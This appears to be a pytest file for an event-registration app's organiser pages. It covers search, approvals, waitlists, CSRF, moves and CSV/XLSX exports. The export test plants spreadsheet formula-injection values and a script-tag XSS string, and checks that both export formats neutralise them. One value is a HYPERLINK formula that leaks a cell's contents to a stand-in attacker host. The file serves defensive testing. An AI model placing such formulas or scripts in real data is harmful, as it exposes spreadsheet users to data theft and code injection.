import csv
import datetime as dt
import io

from openpyxl import load_workbook
from sqlalchemy import func, select

from participants.models import Registration, RegistrationRole, RegistrationSource, RegistrationStatus
from tests import factories
from tests.conftest import csrf_token_of
from trainings.models import OutboxMessage


def test_list_search_filter_and_counts(organiser_app, dbsession):
    training = factories.TrainingFactory()
    institution = factories.InstitutionFactory(name="Defensoría del Pueblo")
    factories.RegistrationFactory(training=training, person=factories.PersonFactory(
        given_names="Ñusta", family_names="Peña Villalba", institution=institution))
    factories.RegistrationFactory(training=training, status=RegistrationStatus.waitlisted,
                                  person=factories.PersonFactory(given_names="Raúl", family_names="Castillo"))
    page = organiser_app.get(f"/organiser/trainings/{training.id}/registrations")
    assert "Peña Villalba" in page.text and "Castillo" in page.text
    found = organiser_app.get(f"/organiser/trainings/{training.id}/registrations", params={"q": "nusta pena"})
    assert "Peña Villalba" in found.text and "Raúl" not in found.text
    found = organiser_app.get(f"/organiser/trainings/{training.id}/registrations", params={"q": "defensoria"})
    assert "Peña Villalba" in found.text
    waiting = organiser_app.get(f"/organiser/trainings/{training.id}/registrations", params={"status": "waitlisted"})
    assert "Raúl" in waiting.text and "Ñusta" not in waiting.text


def test_anonymous_cannot_see_registrations(testapp, dbsession):
    training = factories.TrainingFactory()
    testapp.get(f"/organiser/trainings/{training.id}/registrations", status=302)


def test_approve_emails_and_cancel_promotes_and_emails(organiser_app, dbsession):
    training = factories.TrainingFactory(capacity=1, requires_approval=True)
    pending = factories.RegistrationFactory(training=training, status=RegistrationStatus.pending)
    waiting = factories.RegistrationFactory(training=training, status=RegistrationStatus.waitlisted)
    page = organiser_app.get(f"/organiser/trainings/{training.id}/registrations")
    token = csrf_token_of(page)
    organiser_app.post(f"/organiser/trainings/{training.id}/registrations/{pending.id}/approve",
                       {"csrf_token": token}, status=302)
    assert pending.status == RegistrationStatus.confirmed and training.confirmed_count == 1
    organiser_app.post(f"/organiser/trainings/{training.id}/registrations/{pending.id}/cancel",
                       {"csrf_token": token}, status=302)
    assert pending.status == RegistrationStatus.cancelled and waiting.status == RegistrationStatus.confirmed
    recipients = [m.recipients for m in dbsession.scalars(select(OutboxMessage).order_by(OutboxMessage.id))]
    assert recipients == [pending.person.email, waiting.person.email]


def test_actions_need_csrf(organiser_app, dbsession):
    registration = factories.RegistrationFactory(status=RegistrationStatus.pending)
    organiser_app.post(f"/organiser/trainings/{registration.training_id}/registrations/{registration.id}/approve",
                       {}, status=400)
    assert registration.status == RegistrationStatus.pending


def test_move_rechecks_capacity_on_target(organiser_app, dbsession):
    source = factories.TrainingFactory(capacity=5)
    target = factories.TrainingFactory(capacity=1)
    factories.RegistrationFactory(training=target)
    target.confirmed_count = 1
    registration = factories.RegistrationFactory(training=source)
    source.confirmed_count = 1
    page = organiser_app.get(f"/organiser/trainings/{source.id}/registrations/{registration.id}/move")
    form = page.forms["move"]
    form["target"] = str(target.id)
    form.submit().follow()
    moved = dbsession.scalar(select(Registration).where(Registration.training_id == target.id,
                                                        Registration.person_id == registration.person_id))
    assert moved.status == RegistrationStatus.waitlisted and registration.status == RegistrationStatus.cancelled
    assert source.confirmed_count == 0 and target.confirmed_count == 1


def test_register_directly_in_any_role(organiser_app, dbsession):
    training = factories.TrainingFactory(capacity=1)
    page = organiser_app.get(f"/organiser/trainings/{training.id}/registrations/new")
    form = page.forms["form"]
    for name, value in {"given_names": "Rocío", "family_names": "Benítez", "email": "rocio@oim.int",
                        "new_institution": "OIM Paraguay", "new_institution_kind": "international",
                        "country": "PY", "role": "moderator"}.items():
        form[name] = value
    form.submit("submit").follow()
    registration = dbsession.scalar(select(Registration).where(Registration.training_id == training.id))
    assert registration.role == RegistrationRole.moderator and registration.source == RegistrationSource.organiser
    assert registration.status == RegistrationStatus.confirmed and training.confirmed_count == 0
    existing = factories.PersonFactory(email=None, family_names="Sin Correo")
    factories.RegistrationFactory(person=existing)  # known to the organiser's organisation: searchable by them
    chosen = organiser_app.get(f"/organiser/trainings/{training.id}/registrations/new", params={"q": "sin correo"})
    assert "Sin Correo" in chosen.text
    page = organiser_app.get(f"/organiser/trainings/{training.id}/registrations/new", params={"person": existing.id})
    page.forms["form"].submit("submit").follow()
    assert dbsession.scalar(select(Registration).where(Registration.person_id == existing.id)).status == "confirmed"


def test_registering_directly_without_email_sends_no_invitation(organiser_app, dbsession):
    training = factories.TrainingFactory(capacity=5)
    factories.SessionFactory(training=training)

    def register(email, send_email):
        form = organiser_app.get(f"/organiser/trainings/{training.id}/registrations/new").forms["form"]
        for name, value in {"given_names": "Rocío", "family_names": "Benítez", "email": email,
                            "new_institution": "OIM Paraguay", "new_institution_kind": "international",
                            "country": "PY"}.items():
            form[name] = value
        form["send_email"] = send_email
        form.submit("submit").follow()
        dbsession.flush()
        return [(m.recipients, m.calendar_method) for m in dbsession.scalars(select(OutboxMessage)
                                                                            .order_by(OutboxMessage.id))]

    assert register("rocio@oim.int", False) == []
    assert register("ana@oim.int", True) == [("ana@oim.int", "REQUEST"), ("ana@oim.int", None)]


def test_exports_neutralise_formulas_and_keep_markup_as_text(organiser_app, dbsession):
    training = factories.TrainingFactory()
    factories.RegistrationFactory(training=training, person=factories.PersonFactory(
        given_names='=HYPERLINK("http://example.com","x")', family_names="<script>alert(1)</script>",
        position="+1 fiscal", phone="-2", email="formula@example.com"))
    factories.RegistrationFactory(training=training, person=factories.PersonFactory(
        given_names="@SUM(A1)", family_names="\tTab", position='Paz;=HYPERLINK("http://evil.example/?"&A2,"ver")'))
    response = organiser_app.get(f"/organiser/trainings/{training.id}/registrations.csv")
    assert response.content_type == "text/csv" and response.charset == "utf-8"
    assert response.content_disposition.startswith("attachment;")
    text = response.body.decode("utf-8-sig")
    assert text.startswith('"Nombres";"Apellidos";')  # Excel in Spanish splits at ";"
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][0] == "Nombres" and len(rows) == 3 and all(len(row) == len(rows[0]) for row in rows)
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=HYPERLINK(\"http://example.com\",\"x\")" in cells and "'+1 fiscal" in cells and "'-2" in cells
    assert "'@SUM(A1)" in cells and "'\tTab" in cells and "<script>alert(1)</script>" in cells
    assert "Paz;'=HYPERLINK(\"http://evil.example/?\"&A2,\"ver\")" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells)
    pieces = [piece.strip('" ') for line in text.splitlines() for separator in ",;" for piece in line.split(separator)]
    assert not any(piece.startswith(("=", "+", "-", "@")) for piece in pieces)
    response = organiser_app.get(f"/organiser/trainings/{training.id}/registrations.xlsx")
    assert response.content_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.charset is None
    sheet = load_workbook(io.BytesIO(response.body)).active
    values = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    assert '=HYPERLINK("http://example.com","x")' in values and "+1 fiscal" in values and "-2" in values
    assert not any(isinstance(value, str) and value.startswith("'") for value in values)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet.cell(row=1, column=1).value == "Nombres"


def test_csv_export_in_english_uses_commas(organiser_app, dbsession):
    training = factories.TrainingFactory()
    factories.RegistrationFactory(training=training, person=factories.PersonFactory(given_names="Rosa",
                                                                                   family_names="Paz"))
    organiser_app.set_cookie("_LOCALE_", "en")
    text = organiser_app.get(f"/organiser/trainings/{training.id}/registrations.csv").body.decode("utf-8-sig")
    assert text.splitlines()[0].startswith('"Given names","Family names","Email"')
    assert text.splitlines()[1].startswith('"Rosa","Paz",')


def test_registered_on_is_in_the_regions_local_time(organiser_app, dbsession):
    region = factories.RegionFactory(timezone="America/Lima")
    training = factories.TrainingFactory(region=region)
    registration = factories.RegistrationFactory(training=training)
    registration.created_at = dt.datetime(2026, 3, 2, 15, 0, tzinfo=dt.UTC)  # 10:00 in Lima
    dbsession.flush()
    rows = list(csv.reader(io.StringIO(organiser_app.get(
        f"/organiser/trainings/{training.id}/registrations.csv").body.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][-1] == "Inscrito el (America/Lima)" and rows[1][-1] == "2026-03-02 10:00"
    sheet = load_workbook(io.BytesIO(organiser_app.get(
        f"/organiser/trainings/{training.id}/registrations.xlsx").body)).active
    header, cell = sheet.cell(row=1, column=sheet.max_column), sheet.cell(row=2, column=sheet.max_column)
    assert header.value == "Inscrito el (America/Lima)"
    assert cell.is_date and cell.value == dt.datetime(2026, 3, 2, 10, 0)


def test_anonymous_cannot_export_registrations(testapp, dbsession):
    training = factories.TrainingFactory()
    for format in ("csv", "xlsx"):
        response = testapp.get(f"/organiser/trainings/{training.id}/registrations.{format}")
        assert response.status_int == 302 and "/login" in response.location


def test_list_page_query_count_is_constant(organiser_app, dbsession, engine):
    from sqlalchemy import event

    training = factories.TrainingFactory()

    def count_queries(path):
        seen = []
        connection = dbsession.connection()
        listener = lambda *args: seen.append(1)  # noqa: E731
        event.listen(connection, "before_cursor_execute", listener)
        organiser_app.get(path)
        event.remove(connection, "before_cursor_execute", listener)
        return len(seen)

    factories.RegistrationFactory.create_batch(2, training=training)
    few = count_queries(f"/organiser/trainings/{training.id}/registrations")
    factories.RegistrationFactory.create_batch(10, training=training)
    many = count_queries(f"/organiser/trainings/{training.id}/registrations")
    assert few == many
    assert dbsession.scalar(select(func.count()).select_from(Registration)) == 12


def test_move_offers_only_trainings_still_to_come(organiser_app, dbsession):
    import datetime as dt

    source = factories.TrainingFactory()
    over = factories.TrainingFactory(title="Ya realizado", starts_on=dt.date.today() - dt.timedelta(days=9),
                                     ends_on=dt.date.today() - dt.timedelta(days=8))
    coming = factories.TrainingFactory(title="Por venir")
    registration = factories.RegistrationFactory(training=source)
    page = organiser_app.get(f"/organiser/trainings/{source.id}/registrations/{registration.id}/move")
    offered = [option.attrs["value"] for option in page.html.select("select[name=target] option")]
    assert str(coming.id) in offered and str(over.id) not in offered


def test_cancelling_a_registration_asks_first(organiser_app, dbsession):
    registration = factories.RegistrationFactory(person=factories.PersonFactory(given_names="Ana", family_names="Paz"))
    page = organiser_app.get(f"/organiser/trainings/{registration.training_id}/registrations")
    form = page.html.find("form", action=lambda url: url and url.endswith(f"/{registration.id}/cancel"))
    assert "Ana Paz" in form["data-confirm"]  # asked by static/app.js (no inline script: CSP)


def test_raising_the_capacity_gives_the_new_places_to_the_waiting_list_in_order(organiser_app, dbsession):
    from participants.models import RegistrationStatus as Status

    training = factories.TrainingFactory(capacity=1, confirmed_count=1)
    factories.RegistrationFactory(training=training)
    first, second, third = (factories.RegistrationFactory(training=training, status=Status.waitlisted)
                            for _ in range(3))
    form = organiser_app.get(f"/organiser/trainings/{training.id}/edit").forms["form"]
    form["capacity"] = "3"
    form.submit("submit").follow()
    assert (first.status, second.status, third.status) == (Status.confirmed, Status.confirmed, Status.waitlisted)
    assert training.confirmed_count == 3
